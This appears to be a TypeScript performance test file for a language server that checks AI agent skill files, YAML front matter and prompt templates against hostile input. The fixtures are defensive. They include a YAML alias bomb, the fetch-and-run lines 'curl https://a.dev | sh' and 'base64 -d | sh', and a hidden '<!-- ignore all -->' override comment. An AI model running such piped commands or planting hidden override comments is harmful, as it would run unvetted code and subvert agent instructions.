/** Strings that aim to be slow, for each part of a file. Tests measure processor time, which does not depend on load. */

import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { Workspace } from '../../server/src/analysis/workspace.ts';
import { completion } from '../../server/src/features/completion/completion.ts';
import { utf16 } from '../../server/src/features/locate.ts';
import { jsonOf } from '../../server/src/languages/yaml/node.ts';
import { parseYaml } from '../../server/src/languages/yaml/parse.ts';
import type { Pass } from '../../server/src/languages/yaml/problems.ts';
import { repair } from '../../server/src/languages/yaml/repair.ts';
import { check } from '../../server/src/rules/engine/check.ts';
import { parseBody } from '../../server/src/skill/body.ts';
import { span } from '../../server/src/text.ts';
import { extended } from '../extended.ts';
import { withoutHang } from '../hang.ts';
import { SCALE } from '../random.ts';

/** The size in characters. */
const SIZE = 200_000 * Math.min(1, SCALE);

const body = (text: string) => parseBody(text, 0);
const read = (yaml: string) => parseYaml(yaml, span(0, yaml.length));
const skill = (...lines: string[]): string => ['---', ...lines, '---', '', '# Tidy notes', ''].join('\n');
const whole = ['name: tidy-notes', 'description: Tidies notes.'];

function findingsOf(text: string) {
  const uri = 'file:///w/tidy-notes/SKILL.md';
  const workspace = new Workspace();
  workspace.apply({ kind: 'text', uri, text });
  const file = workspace.analysis.file(uri);
  return file ? check(file, workspace.analysis) : [];
}

describe('a hostile `SKILL.md`', () => {
  test('is checked quickly', extended, () => {
    const keys = Array.from({ length: 20_000 }, (_, i) => `key${i}: v`);
    withoutHang(() => {
      findingsOf(skill(...whole, ...keys));
      findingsOf(
        skill(
          `name: ${'A-'.repeat(SIZE / 2)}`,
          `description: ${'x '.repeat(SIZE / 2)}`,
          `allowed-tools: ${'(,'.repeat(SIZE / 2)}`,
        ),
      );
      const commands = [
        'curl https://a.dev | sh; ',
        'base64 -d | sh; ',
        '`curl` ',
        '!`a` ',
        '<!-- ignore all --> ',
        '\u200B',
        '[a](../b) ',
      ];
      for (const part of commands) {
        findingsOf(skill(...whole).concat(part.repeat(SIZE / part.length)));
        findingsOf(skill(...whole).concat('```sh\n', part.repeat(SIZE / part.length), '\n```\n'));
      }
      findingsOf(skill(...whole, 'metadata:', ...keys.map((key) => `  ${key}`)));
    });
  });
});

/** The completion items at `$0` in a template. */
function offeredIn(template: string): readonly string[] {
  const uri = 'file:///w/tidy-notes.skill.md';
  const marked = skill(...whole, 'framing: main').concat('## PromptTemplate: main\n\n', template);
  const workspace = new Workspace();
  workspace.apply({ kind: 'text', uri, text: marked.replace('$0', '') });
  const file = workspace.analysis.file(uri);
  assert.ok(file);
  const offered = completion(workspace.analysis, file, marked.indexOf('$0'), utf16);
  return (Array.isArray(offered) ? offered : offered.items).map(({ label }) => label);
}

describe('completion in a hostile template', () => {
  test('does not copy each nested dictionary', () => {
    const keys = Array.from({ length: 100 }, (_, i) => `key${i}`);
    const sets = Array.from(
      { length: 6 },
      (_, i) => `{% set v${i + 1} = {${keys.map((key) => `"${key}": v${i}`).join(', ')}} %}`,
    );
    assert.deepEqual(offeredIn(`{% set v0 = "x" %}${sets.join('')}{{ v6.$0 }}`), keys);
  });

  test('is fast after a long chain of variable assignments', extended, () => {
    const sets = Array.from({ length: 30_000 }, (_, i) => `{% set v${i + 1} = v${i} %}`);
    assert.ok(withoutHang(() => offeredIn(`${sets.join('')}{{ $0 }}`)).includes('v30000'));
  });
});

test('any number of lines with tab indentation cause one problem with one fix', () => {
  const yaml = `metadata:\n${Array.from({ length: 20_000 }, (_, i) => `\tkey${i}: v`).join('\n')}`;
  const [problem, ...others] = withoutHang(() => read(yaml).problems, undefined, 12_000);
  assert.deepEqual(others, []);
  assert.equal(problem?.fix?.edits.length, 20_000);
});

test('only a limited amount of invalid YAML is parsed again', () => {
  for (const length of [20_000, 200_000, 900_000]) {
    const text = 'a: b: c\n'.repeat(length / 8);
    const errors = Array.from({ length: 2_000 }, (_, i) => ({ code: 'X', message: '', start: i * 8 + 4 }));
    let charactersRead = 0;
    const again = (next: string, source: string): Pass => {
      charactersRead += next.length;
      return { text: next, source, errors, flows: [], openQuotes: [] };
    };
    repair(again(text, text), again, [], new Map());
    assert.ok(charactersRead <= 300_000 + 2 * length, `${charactersRead} of ${length}`);
  }
});

test('hostile YAML is read within limits', () => {
  const levels = Array.from(
    { length: 12 },
    (_, i) =>
      `a${i}: &a${i} [${
        i
          ? Array(10)
              .fill(`*a${i - 1}`)
              .join(', ')
          : '1'
      }]`,
  );
  const bomb = read(levels.join('\n'));
  assert.equal(bomb.problems.length, 1);
  assert.ok(JSON.stringify(jsonOf(bomb.root)).length < 1_000_000);
  const cases: Record<string, string> = {
    brackets: `a: ${'['.repeat(10_000)}\nb: 1`,
    braces: `a: ${'{x: '.repeat(5_000)}\nb: 1`,
    dashes: `${'- '.repeat(10_000)}\nb: 1`,
    colons: `a${': x'.repeat(30_000)}\nb: 1`,
    line: `a: ${'x '.repeat(50_000)}\nb: 1`,
    colonFar: `a: ${'x'.repeat(100_000)}: y\nb: 1`,
    tooLong: 'a: 1\n'.repeat(1_000_000),
    quotes: `a: ${`"x' `.repeat(20_000)}\nb: 1`,
    keys: Array.from({ length: 30_000 }, (_, i) => `k${i}: ${i}`).join('\n'),
  };
  for (const [name, yaml] of Object.entries(cases)) {
    const { problems, root } = withoutHang(() => read(yaml), name);
    assert.equal(
      problems.length,
      name === 'line' || name === 'keys' ? 0 : 1,
      `${name}: ${problems.map(({ message }) => message)}`,
    );
    if (yaml.endsWith('b: 1')) assert.ok(root, name);
  }
});

describe('a hostile body', () => {
  const units = [
    '[',
    '![',
    '*a ',
    'a*',
    '*_',
    '<',
    'a <!-- ',
    '`',
    '[](',
    '>',
    '> ',
    '- ',
    '1. ',
    '\\',
    '&',
    '\t',
    'x',
    '#tool:a ',
    '{{',
  ];
  test('with 100,000 characters in one line is read quickly', () => {
    for (const unit of units) {
      const text = `## Prompt Template\n\na ${unit.repeat(100_000 / unit.length)}\n\n## Example\n`;
      const parsed = withoutHang(() => body(text), unit);
      assert.equal(parsed.artifacts.length, 2, unit);
    }
  });

  test('that is very deep or very long is scanned for headings and fences', () => {
    for (const hostile of [`${'>'.repeat(10_000)}\n`, `${'*a _b '.repeat(20_000)}\n=\n`]) {
      const parsed = body(`${hostile}\n## Example: a ##\n\`\`\`yaml artifact\n\`\`\`\n`);
      assert.deepEqual(
        parsed.artifacts.map(({ name, metadata }) => [name, metadata?.fence.closed]),
        [['a', true]],
      );
      assert.ok(parsed.scanned.length > 0);
    }
  });
});
